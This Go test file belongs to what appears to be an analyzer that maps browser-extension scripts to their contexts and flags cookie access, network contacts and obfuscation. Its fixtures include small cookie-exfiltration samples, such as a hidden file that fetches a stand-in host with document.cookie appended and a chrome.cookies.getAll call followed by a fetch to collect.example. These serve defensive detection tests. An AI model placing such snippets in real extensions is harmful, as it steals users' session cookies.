package analysis

import (
	"context"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior"
	"github.com/google/go-cmp/cmp"
)

// pack makes the files of an extension.
func pack(files map[string]string) fstest.MapFS {
	m := fstest.MapFS{}
	for name, text := range files {
		m[name] = &fstest.MapFile{Data: []byte(text)}
	}
	return m
}

// contexts lists units as "file context", with index, world, matches and module where they are set.
func contexts(units []*unit) []string {
	var out []string
	for _, u := range units {
		s := u.File
		if u.index > 0 {
			s += "#" + string(rune('0'+u.index))
		}
		s += " " + string(u.Context)
		if u.World != "" {
			s += " " + u.World
		}
		if len(u.Matches) > 0 {
			s += " " + strings.Join(u.Matches, ",")
		}
		if u.Module {
			s += " module"
		}
		out = append(out, s)
	}
	slices.Sort(out)
	return out
}

func TestContexts(t *testing.T) {
	tests := map[string]struct {
		manifest string
		files    map[string]string
		want     []string
	}{
		"service worker that imports": {
			`"background":{"service_worker":"bg.js"}`,
			map[string]string{"bg.js": `importScripts("lib/a.js", 'lib/b.js?v=1')`, "lib/a.js": `fetch(1)`, "lib/b.js": `fetch(2)`},
			[]string{"bg.js background", "lib/a.js background", "lib/b.js background"},
		},
		"a folder of sources": {
			`"background":{"service_worker":"dist/bg.js"},"content_scripts":[{"matches":["https://a.example/*"],"js":["dist/content.js"]}]`,
			map[string]string{"src/background/main.js": `fetch(1)`, "src/content-script.js": `fetch(2)`, "src/lib.js": `fetch(3)`},
			[]string{"src/background/main.js background module", "src/content-script.js content https://a.example/* module", "src/lib.js unreferenced"},
		},
		"names say nothing where the manifest's scripts are there": {
			`"background":{"service_worker":"bg.js"}`,
			map[string]string{"bg.js": `fetch(1)`, "content.js": `fetch(2)`},
			[]string{"bg.js background", "content.js unreferenced"},
		},
		"module with relative imports": {
			`"background":{"service_worker":"src/bg.js","type":"module"}`,
			map[string]string{"src/bg.js": `import{a}from"./a.js";import "../b.mjs"`, "src/a.js": `const x=await import('./c.js')`, "b.mjs": `chrome`, "src/c.js": `chrome`},
			[]string{"b.mjs background module", "src/a.js background module", "src/bg.js background module", "src/c.js background module"},
		},
		"background page and scripts": {
			`"background":{"page":"/bg.html"}`,
			map[string]string{"bg.html": `<script src="js/a.js"></script><script>chrome.x()</script>`, "js/a.js": `chrome`},
			[]string{"bg.html#1 background", "js/a.js background"},
		},
		"content scripts and their worlds": {
			`"content_scripts":[{"matches":["https://a.test/*"],"js":["c.js","lib.js"]},{"matches":["https://b.test/*"],"js":["/c.js"]},{"matches":["https://c.test/*"],"js":["m.js"],"world":"MAIN"}]`,
			map[string]string{"c.js": `chrome`, "lib.js": `x`, "m.js": `fetch`},
			[]string{"c.js content https://a.test/*,https://b.test/*", "lib.js content https://a.test/*", "m.js page MAIN https://c.test/*"},
		},
		"pages with inline scripts and handlers": {
			`"action":{"default_popup":"ui/popup.html"},"options_page":"opt.html","devtools_page":"dev.html"`,
			map[string]string{
				"ui/popup.html": `<body onload="go()"><script src="p.js"></script><script type="text/template">no</script><a href="javascript:run()">x</a><iframe src="frame.html"></iframe>`,
				"ui/p.js":       `chrome`, "ui/frame.html": `<script type=module>import "./m.js"</script>`, "ui/m.js": `chrome`,
				"opt.html": `<base href="/ui/"><script src="p.js"></script>`, "dev.html": `<script src=dev.js></script>`, "dev.js": `chrome`,
			},
			[]string{"dev.js popup", "ui/frame.html#1 popup module", "ui/m.js popup module", "ui/p.js popup", "ui/popup.html#1 popup", "ui/popup.html#2 popup"},
		},
		"injected files": {
			`"background":{"service_worker":"bg.js"}`,
			map[string]string{
				"bg.js": `chrome.scripting.executeScript({target:{tabId},files:["inj/a.js"]});chrome.scripting.executeScript({target:{tabId},world:"MAIN",files:["inj/m.js"]});` +
					strings.Repeat(" ", 300) + `chrome.scripting.registerContentScripts([{id:"x",js:["inj/r.js"],matches:[]}]);` +
					strings.Repeat(" ", 300) + `chrome.tabs.executeScript(1,{file:"inj/old.js"});` +
					strings.Repeat(" ", 300) + `chrome.offscreen.createDocument({url:"off.html",reasons:[]});new Worker("w.js")`,
				"inj/a.js": `fetch`, "inj/m.js": `fetch`, "inj/r.js": `fetch`, "inj/old.js": `fetch`, "off.html": `<script src="off.js"></script>`, "off.js": `chrome`, "w.js": `fetch`,
			},
			[]string{"bg.js background", "inj/a.js page MAIN", "inj/m.js page MAIN", "inj/old.js content", "inj/r.js content", "off.js popup", "w.js background"},
		},
		"script of the page's world": {
			`"content_scripts":[{"matches":["https://a.test/*"],"js":["c.js"]}],"web_accessible_resources":[{"resources":["in*.js"],"matches":["<all_urls>"]}]`,
			map[string]string{"c.js": `s.src=chrome.runtime.getURL("inject.js")`, "inject.js": `fetch`, "inother.js": `fetch`},
			[]string{"c.js content https://a.test/*", "inject.js page MAIN https://a.test/*", "inother.js page"},
		},
		"code under another name": {
			`"background":{"scripts":["logo.png"]},"content_scripts":[{"matches":["https://a.test/*"],"js":["c.js"]}]`,
			map[string]string{
				"logo.png": `fetch("data/code.txt").then(t=>t.text()).then(eval); fetch('data/list.json'); i.src="icon.png";executeScript({files:["rules.json","icon.png"]},"style.css")`,
				"c.js":     `chrome`, "data/code.txt": `fetch("https://a.example/"+document.cookie)`, "data/list.json": `{"cookie":1}`, "icon.png": "\x89PNG\r\n\x1a\n\x00cookie(",
				"readme.txt": `fetch(document.cookie)`, "style.css": `a{b:url(fetch())}`, "rules.json": `{"fetch()":"cookie"}`,
			},
			[]string{"c.js content https://a.test/*", "data/code.txt background", "logo.png background"},
		},
		"what nothing refers to": {
			`"background":{"service_worker":"bg.js"}`,
			map[string]string{"bg.js": `chrome`, "old.js": `import "./older.js"`, "older.js": `fetch`, "lost.html": `<script>fetch(1)</script>`, "x.css": `a{}`},
			[]string{"bg.js background", "lost.html#1 unreferenced", "old.js unreferenced", "older.js unreferenced module"},
		},
		"no way out of the package, no circles": {
			`"background":{"service_worker":"a.js"}`,
			map[string]string{"a.js": `importScripts("../../b.js","a.js")`, "b.js": `importScripts("./a.js","/%62.js")`},
			[]string{"a.js background", "b.js background"},
		},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			m, err := manifests.Parse([]byte(`{"manifest_version":3,"name":"x","version":"1",` + test.manifest + `}`))
			if err != nil {
				t.Fatal(err)
			}
			units, problems := collect(m, pack(test.files))
			for _, p := range problems {
				t.Errorf("problem: %v", p)
			}
			got := contexts(units)
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestCollectBounds(t *testing.T) {
	files := pack(map[string]string{"a.js": "fetch()", "b.js": "fetch()", "c.js": "fetch()"})
	l := defaultLimits()
	l.units = 2
	c := newCollector(nil, files, l)
	c.run()
	if len(c.units) != 2 || len(c.problems) == 0 {
		t.Errorf("%d units, problems %v", len(c.units), c.problems)
	}
	l = defaultLimits()
	l.read = 5
	c = newCollector(nil, files, l)
	c.run()
	if len(c.units) != 1 || len(c.problems) == 0 {
		t.Errorf("%d units, problems %v", len(c.units), c.problems)
	}
	if _, problems := collect(nil, fstest.MapFS{"a.js": {Mode: fs.ModeDevice}}); len(problems) == 0 {
		t.Error("a device was taken for a file")
	}
}

func TestPlaceOfParts(t *testing.T) {
	html := "<p>\n<script>\n  thief()\n</script>\n<b onclick=\"x();\nthief()\">"
	m := &manifests.Manifest{Pages: []manifests.Page{{Role: "popup", Path: "p.html"}}}
	units, _ := collect(m, pack(map[string]string{"p.html": html}))
	want := []behavior.Place{{File: "p.html", Line: 3, Column: 3}, {File: "p.html", Line: 6, Column: 1}}
	for i, u := range units {
		if got := u.Place(strings.Index(string(u.text), "thief")); got != want[i] {
			t.Errorf("got %v, want %v", got, want[i])
		}
	}
}

func TestAnalyze(t *testing.T) {
	chain := "x = y" + strings.Repeat(" ? 1 : y", 1500) + "; " + strings.Repeat("let let; ", 20) + "\nchrome.cookies.getAll({}, c => fetch('https://collect.example/'));window['localStorage']"
	files := pack(map[string]string{"bg.js": chain, "c.js": `console.log("http://plain.example/")`})
	m := &manifests.Manifest{Background: manifests.Background{ServiceWorker: "bg.js"}}
	r := Analyze(context.Background(), Input{Manifest: m, Files: files})
	if r.Complete || len(r.Problems) == 0 {
		t.Error("an unreadable script, and the report says nothing")
	}
	if len(r.Obfuscation) == 0 || r.Obfuscation[0].Kind != "unparseable" || r.Obfuscation[0].File != "bg.js" {
		t.Errorf("signs: %v", r.Obfuscation)
	}
	for _, api := range []string{"cookies.getAll", "fetch", "localStorage"} {
		i := slices.IndexFunc(r.Calls, func(c behavior.Call) bool { return c.API == api && c.Context == behavior.Background })
		if i < 0 || r.Calls[i].Line != 2 {
			t.Errorf("no call of %s in line 2: %v", api, r.Calls)
		}
	}
	for _, host := range []string{"collect.example", "plain.example"} {
		if !slices.ContainsFunc(r.Contacts, func(c behavior.Contact) bool { return c.Host == host }) {
			t.Errorf("no contact %s: %v", host, r.Contacts)
		}
	}
	r = Analyze(context.Background(), Input{Manifest: m, Files: files, Skip: []string{"bg.js"}})
	if len(r.Obfuscation) != 1 || r.Complete {
		t.Errorf("a skipped file: %+v", r)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if r := Analyze(ctx, Input{Manifest: m, Files: files}); r.Complete {
		t.Error("complete, though it was cancelled")
	}
}

func FuzzPages(f *testing.F) {
	for _, s := range []string{`<script>a</script>`, `<script src=a.js>`, `<b onclick=x>`, `<iframe srcdoc="<script>a</script>">`, `<!--<script>-->`,
		`<script><!--</script>--></script>`, `<a href=javascript:a>`, `<svg><script href=x />`, `<base href="/a/">`, "<script>\x00"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		collect(&manifests.Manifest{Pages: []manifests.Page{{Path: "a.html"}}}, fstest.MapFS{"a.html": {Data: text}})
	})
}
